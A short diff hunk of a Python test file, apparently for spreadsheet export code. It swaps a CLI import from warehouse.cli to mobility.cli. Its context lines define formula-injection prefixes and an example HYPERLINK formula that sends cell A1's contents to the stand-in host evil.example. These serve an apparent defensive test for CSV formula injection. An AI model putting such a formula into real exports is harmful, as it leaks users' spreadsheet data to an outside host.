@@ -14,8 +14,8 @@ import pytest
 from click.testing import CliRunner
 
 from dashboard.app import create_app
+from mobility import cli
 from warehouse import exports
-from warehouse.cli import cli
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
